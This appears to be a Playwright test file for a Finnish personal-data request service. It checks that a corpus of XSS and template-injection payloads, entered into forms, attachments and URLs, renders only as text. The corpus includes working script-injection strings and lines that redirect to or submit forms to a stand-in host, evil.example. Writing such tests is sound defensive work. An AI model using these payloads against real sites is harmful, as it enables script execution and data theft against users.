// What an attacker types stays text: in every field, in every error, in
// addresses and file names, for everybody who reads it. Nothing runs, nothing
// is asked of another host, and the policy has nothing to report.
import type { Page } from "@playwright/test";
import { II, fillIn, notice, openMatters, openWorklist, sign } from "./journeys.ts";
import { expect, test } from "./support.ts";

/** Ways out of a text, an attribute, an element, a comment, an address. */
const CORPUS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(2)>',
  "'><svg/onload=alert(3)>",
  "</textarea><script>alert(4)</script>",
  "</title><script>alert(5)</script>",
  "</script><script>alert(6)</script>",
  "<!-- --!><script>alert(7)</script>",
  "]]><script>alert(8)</script>",
  '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
  '<a href="javascript:alert(10)" autofocus onfocus=alert(11)>x</a>',
  "<style>@import 'https://evil.example/a.css'</style>",
  "<base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "<form action=https://evil.example/><button formaction=javascript:alert(12)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
  "&lt;script&gt;alert(14)&lt;/script&gt; &#60;b&#62;",
  "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
  "javascript:alert(15)//",
  "\\u003cscript\\u003e \\x3cimg\\x3e %3Cscript%3E",
  "<leptos-island data-component=X_1 data-props='{}'></leptos-island><!>",
];

/** All of them, for a field with room. */
const ALL = CORPUS.join(" ¶ ");

/** One that fits into any field. */
let turn = 0;
const one = () => CORPUS[turn++ % CORPUS.length];

/** Hears what must never happen. */
function watch(page: Page, home: string): string[] {
  const wrong: string[] = [];
  page.on("dialog", (dialog) => {
    wrong.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { origin } = new URL(request.url());
    if (origin !== home && !origin.startsWith("http://localhost:")) wrong.push(`request: ${request.url()}`);
  });
  return wrong;
}

/** Sends a form as the page would, without the page's own checks. */
async function post(page: Page, home: string, path: string, form: Record<string, string>): Promise<string> {
  const answer = await page.request.post(path, { form, headers: { origin: home }, maxRedirects: 0 });
  expect(answer.status(), path).toBeLessThan(500);
  return answer.headers().location ?? path;
}

/** Everything that a person reads or finds in a field of the page. */
async function readable(page: Page): Promise<string> {
  return page.evaluate(() => {
    const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>("input, textarea")];
    return [document.body.textContent, ...fields.map((field) => field.value)].join("\n");
  });
}

/** Opens a page and looks that nothing of the corpus became an element. */
async function open(page: Page, path: string, expected: string[] = []): Promise<void> {
  const answer = await page.goto(path);
  expect(answer?.status() ?? 200, path).toBeLessThan(500);
  const odd = await page.evaluate(() =>
    [
      ...document.querySelectorAll(
        "base, iframe, svg[onload], img[onerror], [onfocus], [onmouseover], meta[http-equiv], math, style, " +
          "a[href^='javascript:' i], form[action*='evil.example'], [formaction^='javascript:' i]",
      ),
    ].map((element) => element.outerHTML),
  );
  expect(odd, path).toEqual([]);
  const inline = await page.evaluate(() => [...document.querySelectorAll("script:not([src])")].length);
  expect(inline, `${path}: scripts without a file`).toBe(0);
  if (expected.length > 0) {
    const text = await readable(page);
    for (const payload of expected) expect(text, path).toContain(payload);
  }
}

/** Sends a form and opens the page that follows. */
async function type(page: Page, home: string, path: string, form: Record<string, string>, expected: string[] = []) {
  await open(page, await post(page, home, path, form), expected);
}

test("what is typed into a request is text, in the form, its errors and the receipt", async ({ page, baseURL }) => {
  const home = baseURL ?? "";
  const wrong = watch(page, home);
  await fillIn(page, { register: II, other: ALL });
  const errors: [string, Record<string, string>][] = [
    ["1/aika", { period: "between", from: one(), to: one() }],
    ["1/apu", { earlier_names: one(), years: one(), services: ALL }],
    ["ilmoitus", { notify: "yes", email: one() }],
    ["tapa", { way: one() }],
    ["kenen", { whose: one() }],
    ["1/mita", { scope: one(), other: ALL, categories: one() }],
  ];
  for (const [step, form] of errors) {
    const typed = Object.entries(form)
      .filter(([name]) => !["way", "whose", "scope", "categories"].includes(name))
      .map(([, value]) => value);
    await post(page, home, `/fi/pyynto/${step}`, form);
    await open(page, `/fi/pyynto/${step}`, typed);
  }
  await open(page, "/fi/pyynto");
  await open(page, "/fi/pyynto/tarkista");
  await type(page, home, "/fi/pyynto/ilman", { sender: one(), reach: ALL.slice(0, 700) });
  expect(wrong).toEqual([]);
});

test("what was filed is text for the person and for the owner, and so are their letters", async ({
  page,
  baseURL,
  somebodyElse,
}) => {
  const home = baseURL ?? "";
  const wrong = watch(page, home);
  await fillIn(page, { register: II, other: ALL });
  await post(page, home, "/fi/pyynto/1/apu", { earlier_names: one(), services: ALL });
  await page.goto("/fi/pyynto/tarkista");
  const reference = await sign(page, "matti");
  const matter = `/fi/omat/pyynnot/${reference}`;
  const part = `/fi/virka/osat/${reference}`;
  for (const end of ["", "/vastaanotto", "/asia"]) await open(page, matter + end, CORPUS);
  for (const end of ["/todiste", "/peru", "/tyytymaton"]) await open(page, matter + end);
  await type(page, home, `${matter}/viesti`, { message: ALL }, CORPUS);

  // Somebody to hand it over to.
  await openWorklist(await somebodyElse(), "ii-vastuu-b");
  const owner = await somebodyElse();
  const wrongThere = watch(owner, home);
  await openWorklist(owner, "ii-vastuu-a");
  await post(owner, home, `${part}/ota`, {});
  await open(owner, part, CORPUS);
  // Each is sent wrong, so that the page shows it with its errors.
  const forms: [string, Record<string, string>, string[]][] = [
    ["vastaus", { message: ALL, extent: one(), official: one(), contact: "", then: "check" }, CORPUS],
    ["kieltaydy", { ground: "excessive", facts: ALL, official: one(), contact: "", then: "check" }, CORPUS],
    ["ei-tietoja", { system_1: one(), with_1: one(), official: one(), explanation: ALL, then: "check" }, []],
    ["taydennys", { kind: "needed_for_data", question: ALL, reply_by: one() }, CORPUS],
    ["pidennys", { months: "9", extend_reason: ALL }, CORPUS],
    ["kollegalle", { colleague: one(), hand_reason: ALL }, CORPUS],
    ["muualta", { came_by: one(), came_on: one(), recorded: ALL }, CORPUS],
    ["muistiinpanot", { note: ALL }, CORPUS],
    ["viesti", { message: ALL }, []],
  ];
  for (const [action, form, expected] of forms) {
    await post(owner, home, `${part}/${action}`, form);
    await open(owner, `${part}/${action}?virheet=1`, action === "muistiinpanot" || action === "viesti" ? [] : expected);
    await open(owner, `${part}/${action}`);
  }
  await open(owner, part, CORPUS);
  await type(owner, home, "/fi/virka/haku", { q: one() });
  await open(owner, "/fi/virka");
  // The letter comes to the person, and the answer too.
  await open(page, matter, CORPUS);
  await post(owner, home, `${part}/vastaus`, { message: ALL, official: one(), contact: one(), then: "check" });
  await open(owner, `${part}/vastaus/tarkista`, CORPUS);
  await post(owner, home, `${part}/vastaus/tarkista`, { others: "yes", handling: "taken_out", how: ALL });
  await open(page, matter, CORPUS);
  await open(page, `${matter}/asia`, CORPUS);
  await open(owner, part, CORPUS);
  expect([...wrong, ...wrongThere]).toEqual([]);
});

test("a correction, a wish, a withdrawal and a follow-up take nothing but text", async ({ page, baseURL }) => {
  const home = baseURL ?? "";
  const wrong = watch(page, home);
  await post(page, home, `${notice(II)}/korjaus`, {});
  await post(page, home, "/fi/pyynto/1/virhe", { wrong: ALL, correct: "" });
  await open(page, "/fi/pyynto/1/virhe", CORPUS);
  await post(page, home, "/fi/pyynto/1/virhe", { wrong: ALL, correct: ALL });
  await type(page, home, "/fi/pyynto/1/perustelut", { reasons: ALL });
  await open(page, "/fi/pyynto/1/perustelut", CORPUS);
  await post(page, home, "/fi/ii/omin-sanoin", {});
  await type(page, home, "/fi/pyynto/2/asia", { wish: ALL });
  await open(page, "/fi/pyynto/2/asia", CORPUS);
  for (const payload of CORPUS) {
    const name = payload.replaceAll(/[/\\"]/g, "_");
    const file = { name: `${name}.pdf`, mimeType: "application/pdf", buffer: Buffer.from("<script>alert(1)</script>") };
    const sent = await page.request.post("/fi/pyynto/1/liitteet", {
      multipart: { then: "more", file },
      headers: { origin: home },
      maxRedirects: 0,
    });
    expect(sent.headers().location, name).toContain("liite=");
  }
  await open(page, "/fi/pyynto/1/liitteet");
  await open(page, "/fi/pyynto/tarkista", CORPUS);
  const withdrawal = { words_tyollistamispalvelut: ALL, sender: "", reach: one() };
  await type(page, home, "/fi/ii/suostumus", withdrawal, CORPUS);
  await type(page, home, "/fi/seuranta", { reference: one(), secret: one() });
  await openMatters(page, "aino");
  expect(wrong).toEqual([]);
});

test("what stands in an address is text", async ({ page, baseURL }) => {
  const wrong = watch(page, baseURL ?? "");
  for (const payload of CORPUS) {
    const typed = encodeURIComponent(payload);
    await open(page, `/fi/haku?q=${typed}`, payload.includes("\\u") ? [] : [payload]);
    for (const name of ["virhe", "viite", "liite", "kunta", "lahetetty"]) {
      await open(page, `/fi/seuranta?${name}=${typed}`);
    }
    await open(page, `/fi/virka/kirjaudu?virhe=${typed}&paluu=${typed}`);
  }
  expect(wrong).toEqual([]);
});
